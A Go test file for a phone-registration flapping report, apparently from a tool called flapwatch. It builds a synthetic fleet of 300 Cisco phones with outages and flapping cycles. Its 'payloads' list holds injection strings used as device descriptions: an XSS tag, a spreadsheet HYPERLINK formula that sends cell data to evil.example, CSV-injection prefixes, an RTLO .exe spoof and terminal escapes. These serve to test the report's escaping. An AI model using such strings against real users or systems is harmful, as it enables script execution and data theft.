package report_test

import (
	"context"
	"fmt"
	"math/rand/v2"
	"strings"
	"sync"
	"testing"
	"time"

	"flapwatch/event"
	"flapwatch/reasons"
	"flapwatch/report"
	"flapwatch/watch"
)

// fleet is a source of histories made for a test, judged as the program judges them.
type fleet struct {
	*watch.Watch
	histories []event.History
}

func (f *fleet) Histories(_ context.Context, ask event.Filter, yield func(event.History) error) error {
	for _, h := range f.histories {
		inside := h
		inside.Changes = nil
		for _, c := range h.Changes {
			if c.At >= ask.From.UnixMilli() && (ask.To.IsZero() || c.At < ask.To.UnixMilli()) && (ask.Device == "" || ask.Device == h.Device) {
				inside.Changes = append(inside.Changes, c)
			}
		}
		if len(inside.Changes) > 0 {
			if err := yield(inside); err != nil {
				return err
			}
		}
	}
	return nil
}

// HistoriesBetween implements watch.Source: nothing comes in while the report is made.
func (f *fleet) HistoriesBetween(ctx context.Context, ask event.Filter, after, _ event.Mark, yield func(event.History) error) error {
	if after != nil {
		return nil
	}
	return f.Histories(ctx, ask, yield)
}

func (f *fleet) Mark(context.Context) (event.Mark, error) { return event.Mark{}, nil }

func (f *fleet) Began(context.Context) (map[string]time.Time, error) { return nil, nil }

func (f *fleet) Known(context.Context) (map[string]int, error) { return nil, nil }

// Sources implements report.Senders: one node that tells everything, one that hides its registrations and lost messages.
func (f *fleet) Sources(_ context.Context, ask event.Filter) (event.Senders, error) {
	return event.Senders{List: []event.Source{
		{Source: "10.1.1.1:514", Cluster: "hq", Node: "cucm-pub", Messages: 1000, Endpoint: 900, Last: ask.To.Add(-time.Minute), Severities: []uint8{3, 6}},
		{Source: "10.1.1.2:514", Cluster: "hq", Node: "cucm-sub", Messages: 800, Endpoint: 700, Last: ask.To.Add(-30 * time.Hour), Severities: []uint8{3, 4},
			Counters: []event.Counter{{Missing: 12}, {Missing: 3}}},
	}}, nil
}

func catalogue(t testing.TB) *reasons.Catalogue {
	t.Helper()
	c, err := reasons.New()
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func newFleet(t testing.TB, histories []event.History) *fleet {
	f := &fleet{histories: histories}
	f.Watch = watch.New(f, catalogue(t), func() uint64 { return 1 }, time.Now)
	return f
}

// phones makes device names, addresses and histories from a seed.
type phones struct {
	*rand.Rand
	all []event.History
}

func (p *phones) add(description string, subnet int, changes ...event.Change) *event.History {
	n := len(p.all)
	p.all = append(p.all, event.History{
		Cluster: "hq", Device: fmt.Sprintf("SEP%012X", 0xE0D1730A0000+n), IP: fmt.Sprintf("10.60.%d.%d", subnet, 1+n%250), Protocol: "SIP",
		Description: description, Model: "Cisco 8961", DeviceType: 540, Changes: changes,
	})
	return &p.all[n]
}

func drop(at time.Time, node string) event.Change {
	return event.Change{At: at.UnixMilli(), Role: event.Down, Node: node, Reason: 13, HasReason: true, Signal: "SIPStationDPrimaryLineTimeout"}
}

func up(at time.Time, node string) event.Change {
	return event.Change{At: at.UnixMilli(), Role: event.Up, Node: node}
}

func home(at time.Time, node string) event.Change {
	return event.Change{At: at.UnixMilli(), Role: event.Down, Node: node, Reason: 28, HasReason: true, Expected: true}
}

// sixteen plays the cycle of 963 s on the primary and 120 s on the secondary.
func (p *phones) sixteen(from, to time.Time) []event.Change {
	var out []event.Change
	at := from.Add(time.Duration(p.IntN(1000)) * time.Second)
	for at.Before(to) {
		lost := at.Add(time.Duration(963+p.NormFloat64()) * time.Second).Add(time.Duration(p.IntN(1000)) * time.Millisecond)
		out = append(out, up(at, "cucm-pub"), drop(lost, "cucm-pub"), up(lost.Add(3*time.Second), "cucm-sub"))
		at = lost.Add(123 * time.Second)
		out = append(out, home(at.Add(-time.Second), "cucm-sub"))
	}
	return out
}

var (
	berlin = must(time.LoadLocation("Europe/Berlin"))
	week   = must(report.ParseWeek("2026-W47"))
	now    = time.Date(2026, 11, 23, 6, 0, 0, 0, time.UTC)
)

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

// office is two weeks of 300 phones: ten with the sixteen minutes (seven of them new), an outage of a subnet, some that drop at
// random, one that was cured, one that is not let in, and descriptions that want to be more than text.
func office() []event.History {
	w := week.Window(berlin)
	before := w.From.AddDate(0, 0, -7)
	p := &phones{Rand: rand.New(rand.NewPCG(1, 2))}
	for i := range 10 {
		from := before
		if i >= 3 {
			from = w.From.Add(30 * time.Hour)
		}
		p.add(fmt.Sprintf("Line %d", i), 98, p.sixteen(from, w.To)...)
	}
	p.add("Cured", 98, p.sixteen(before, w.From.Add(-24*time.Hour))...)
	for i := range 5 {
		var changes []event.Change
		for at := before; at.Before(w.To); {
			lost := at.Add(time.Duration((1 + p.ExpFloat64()*5) * float64(time.Hour)))
			changes = append(changes, up(at, "cucm-pub"), drop(lost, "cucm-pub"))
			at = lost.Add(40 * time.Second)
		}
		p.add(fmt.Sprintf("Hall %d", i), 97, changes...)
	}
	cut := w.From.Add(52*time.Hour + 10*time.Minute)
	for i := range 284 {
		begin := before.Add(time.Duration(p.IntN(86400)) * time.Second)
		changes := []event.Change{up(begin, "cucm-pub")}
		if i < 40 {
			lost := cut.Add(time.Duration(p.IntN(20_000)) * time.Millisecond)
			changes = append(changes, drop(lost, "cucm-pub"), up(lost.Add(11*time.Minute), "cucm-pub"))
		} else if p.IntN(10) == 0 {
			lost := w.From.Add(time.Duration(p.IntN(6*86400)) * time.Second)
			changes = append(changes, drop(lost, "cucm-pub"), up(lost.Add(time.Minute), "cucm-pub"))
		}
		p.add("Room", i/40, changes...)
	}
	var tries []event.Change
	for at := w.From; at.Before(w.To); at = at.Add(61 * time.Second) {
		tries = append(tries, event.Change{At: at.UnixMilli(), Role: event.Attempt, Node: "cucm-pub", Reason: 1, HasReason: true})
	}
	p.add("Not in the database", 12, tries...)
	for _, d := range payloads {
		p.add(d, 66, p.sixteen(w.From, w.To)...)
	}
	return p.all
}

// payloads are descriptions that want to be more than text.
var payloads = []string{
	`<script>alert(1)</script><img src=x onerror=alert(2)>`,
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1-2|calc", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1",
	"abc\u202etxt.exe\u2066", "\x1b[31mred\x07", "[click](http://evil.example) | `code` # head **bold** www.evil.example",
	strings.Repeat("1 kB ", 200), "会議室 東京 – 電話 🕾", "\xff\xfe broken", "a\nb\n# c",
}

// officeWeek is the report of the office, made once: nobody may change it.
func officeWeek(t testing.TB) *report.Report {
	t.Helper()
	once.Do(func() { made = weekly(t, office()) })
	if made == nil {
		t.Fatal("the report of the office could not be made")
	}
	return made
}

var (
	once sync.Once
	made *report.Report
)

func weekly(t testing.TB, histories []event.History) *report.Report {
	t.Helper()
	f := newFleet(t, histories)
	r, err := report.Weekly(t.Context(), f, report.Options{Week: week, Location: berlin, Now: now, Catalogue: catalogue(t), Senders: f})
	if err != nil {
		t.Fatal(err)
	}
	return r
}
